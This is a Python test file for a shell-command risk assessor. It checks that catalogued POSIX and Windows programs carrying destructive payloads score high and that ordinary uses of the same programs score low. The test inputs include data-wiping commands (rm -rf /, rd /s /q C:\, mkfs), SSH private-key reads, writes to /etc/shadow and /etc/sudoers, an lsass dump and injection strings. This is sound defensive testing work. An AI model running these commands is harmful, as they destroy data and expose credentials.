"""safety-cat5: the long-tail tables in `safety/catalogues.py`.

Cases are generated from the tables (so removing a row makes its case fail: the program
falls back to an unknown command, moderate), plus hand-written expectations that do not
read the tables, and look-alikes (the same programs doing their ordinary job) that must
stay low. The labelled rows with sources are in `sources_c5.tsv`."""

from __future__ import annotations

import pytest

from aintern_ls.safety import RiskLevel, assess
from aintern_ls.safety.catalogues import POSIX_TABLE, WINDOWS_TABLE
from tests.safety._levels import B, C, D, M


def _posix_case(name: str, opts: tuple[str, ...], kind: str) -> tuple[str, RiskLevel] | None:
    """A command of the row's shape with a payload whose level is known."""
    opt = next((o for o in opts if not o.startswith("@")), None)
    pos = next((o for o in opts if o.startswith("@")), None)

    def with_value(value: str) -> str:
        if opt is None:
            lead = {"@@": "", "@": "", "@2": "a ", "@3": "a b "}[pos or "@"]
            return f"{name} {lead}{value}"
        if opt.startswith("-") and opt != "--":
            return f"{name} {opt} {value}"
        return f"{name} {opt} {value}"  # a subcommand word (`pueue add`, `salt-call cmd.run`)

    if kind in ("sh", "prog", "shline", "sh+ops"):
        return with_value("'rm -rf ~'"), B
    if kind == "argv":
        return with_value("rm -rf /"), B
    if kind == "csv":
        return with_value("/bin/sh,-c,'rm -rf /'"), B
    if kind.startswith("code:") and kind[5:] == "ruby":
        return with_value("'FileUtils.rm_rf(\"/\")'"), B
    if kind == "wr":
        return with_value("/etc/shadow"), B
    if kind in ("wrdir", "xdir"):
        return with_value("/usr/bin"), C
    if kind == "leak":
        return with_value('"$(cat ~/.ssh/id_rsa)"'), C
    if kind.startswith("remote:"):
        return with_value("host1 rm -rf /"), B
    if kind == "rline:cmd":
        return with_value("'rd /s /q C:\\'"), B
    if kind == "rline:powershell":
        return with_value("'Remove-Item -Recurse -Force C:\\Windows'"), B
    if kind == "inject":
        return with_value("'}; rm -rf ~ #'"), B
    return None


_POSIX_CASES = [
    pytest.param(*case, id=f"{name}:{kind}:{opts[0]}")
    for name, rows in sorted(POSIX_TABLE.items())
    for opts, kind in rows
    if (case := _posix_case(name, opts, kind)) is not None
]


def test_the_tables_are_not_empty() -> None:
    assert len(POSIX_TABLE) >= 50 and len(WINDOWS_TABLE) >= 50
    assert len(_POSIX_CASES) >= 60


@pytest.mark.parametrize("command,expected", _POSIX_CASES)
def test_every_posix_row_judges_its_payload(command: str, expected: RiskLevel) -> None:
    got = assess(command, "bash")
    assert got.level >= expected, (command, got.level, [f.rule for f in got.findings])


def _windows_case(name: str, opts: tuple[str, ...], kind: str) -> tuple[str, RiskLevel] | None:
    opt = next((o for o in opts if not o.startswith("@")), None)
    pos = next((o for o in opts if o.startswith("@")), None)
    lead = (
        f"{opt} " if opt is not None else {"@@": "", "@": "", "@2": "a ", "@3": "a b "}[pos or "@"]
    )
    if kind in ("wexec", "wremote"):
        return f"{name}.exe {lead}cmd /c rd /s /q C:\\", B
    if kind == "exec":
        return f"{name}.exe {lead}C:\\Users\\Public\\x.exe", C
    if kind in ("lib", "cs", "dump", "remote", "dlexec", "debugger"):
        return f"{name}.exe {lead}C:\\Users\\Public\\x.dll", C
    if kind in ("dl", "fetch"):
        return f"{name}.exe {lead}https://files.example/x.exe", C
    if kind == "ps":
        return f'{name}.exe {lead}"Remove-Item -Recurse -Force C:\\Windows"', B
    return None


_WINDOWS_CASES = [
    pytest.param(*case, id=f"{name}:{kind}:{opts[0]}")
    for name, rows in sorted(WINDOWS_TABLE.items())
    for opts, kind in rows
    if (case := _windows_case(name, opts, kind)) is not None and name != "pester"
]


@pytest.mark.parametrize("command,expected", _WINDOWS_CASES)
def test_every_windows_row_judges_its_payload(command: str, expected: RiskLevel) -> None:
    got = assess(command, "cmd")
    assert got.level >= expected, (command, got.level, [f.rule for f in got.findings])


# Hand-written expectations: they do not read the tables.
@pytest.mark.parametrize(
    "command,shell,expected",
    [
        ("yt-dlp --exec 'rm -rf /' https://v.example/x", "bash", B),
        ("yt-dlp --exec='shred -u ~/.ssh/id_ed25519' https://v.example/x", "bash", D),
        ("nodemon -x 'rm -rf ~' index.js", "bash", B),
        ("c89 -wrapper /bin/sh,-c,'mkfs.ext4 /dev/sda' -c a.c", "bash", B),
        ("logrotate --mail='rm -rf /etc' /etc/logrotate.conf", "bash", B),
        ("sshfs -o reconnect,ssh_command='rm -rf ~' h: /mnt", "bash", B),
        ("xterm -e rm -rf /", "bash", B),
        ("echo 'os.execute(\"rm -rf /\")' > a.lua\ntshark -Xlua_script:a.lua", "bash", B),
        ("Mftrace.exe cmd /c rd /s /q C:\\", "cmd", B),
        ('DefaultPack.EXE /C:"cmd /c rd /s /q C:\\"', "cmd", B),
        ("Dxcap.exe -c C:\\Users\\Public\\evil.exe", "cmd", C),
        ('Powerpnt.exe "http://files.example/loader.dll"', "cmd", C),
        ("adplus.exe -hang -pn lsass.exe -o C:\\Users\\Public", "cmd", C),
        ('cdb.exe -c ".shell cmd /c rd /s /q C:\\Users" notepad.exe', "cmd", B),
    ],
)
def test_hand_written_payloads(command: str, shell: str, expected: RiskLevel) -> None:
    got = assess(command, shell)
    assert got.level >= expected, (command, got.level, [f.rule for f in got.findings])


# The same programs doing their ordinary job stay low.
@pytest.mark.parametrize(
    "command,shell",
    [
        ("yt-dlp -x --audio-format mp3 https://v.example/x", "bash"),
        ("yt-dlp --exec 'echo done' https://v.example/x", "bash"),
        ("nodemon --exec 'npm run build'", "bash"),
        ('nodemon --exec "node --inspect" server.js', "bash"),
        ("nodemon --exec python3 app.py", "bash"),
        ("logrotate -d /etc/logrotate.conf", "bash"),
        ("grc tail -f app.log", "bash"),
        ("tshark -i eth0 -c 10", "bash"),
        ("xterm -e htop", "bash"),
        ("pdb3 script.py", "bash"),
        ("minicom -D /dev/ttyUSB0", "bash"),
        ("dstat 5", "bash"),
        ("xsltproc style.xsl in.xml", "bash"),
        ("excel.exe C:\\Reports\\q3.xlsx", "cmd"),
        ("winword.exe report.docx", "cmd"),
        ("csc.exe -out:app.exe Program.cs", "cmd"),
    ],
)
def test_ordinary_use_stays_low(command: str, shell: str) -> None:
    got = assess(command, shell)
    assert got.level <= M, (command, got.level, [f.rule for f in got.findings])


# Mechanisms beside the tables (safety-cat5): native libraries loaded by inline code, fzf
# actions, pagers and editors named by variables, output-file options of any program.
@pytest.mark.parametrize(
    "command,expected",
    [
        ("python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/x.so\")'", C),
        ('ruby -e \'require "fiddle"; Fiddle.dlopen("/tmp/a.so")\'', C),
        ("node -e 'process.dlopen(module, \"./evil.node\")'", C),
        ("fzf --bind 'enter:execute(rm -rf ~)'", B),
        ("fzf --bind 'ctrl-y:become(mkfs.ext4 /dev/sda)'", B),
        ("CRASHPAGER='rm -rf /' crash -h", B),
        ("KUBE_EDITOR='rm -rf ~' kubectl edit deploy/web", B),
        ("bat --pager 'rm -rf ~' notes.md", B),
        ("tsc app.ts --outFile /etc/passwd", B),
        ("mypy app.py --junit-xml /etc/shadow", B),
        ("nmap -oN ~/.bashrc 10.0.0.1", C),
        ("somecli --log-file /etc/sudoers run", B),
    ],
)
def test_mechanisms_beside_the_tables(command: str, expected: RiskLevel) -> None:
    got = assess(command, "bash")
    assert got.level >= expected, (command, got.level, [f.rule for f in got.findings])


@pytest.mark.parametrize(
    "command",
    [
        "python3 -c 'import ctypes; print(ctypes.sizeof(ctypes.c_int))'",
        "fzf --bind 'ctrl-a:select-all,ctrl-d:deselect-all'",
        "fzf --preview 'bat --color=always {}'",
        "sfdisk --dump /dev/nvme0n1",
        "pytest --junit-xml report.xml",
        "somecli --log-level debug --log-file app.log",
        "nmap -oN scan.txt 10.0.0.1",
    ],
)
def test_mechanism_look_alikes_stay_low(command: str) -> None:
    got = assess(command, "bash")
    assert got.level <= M, (command, got.level, [f.rule for f in got.findings])
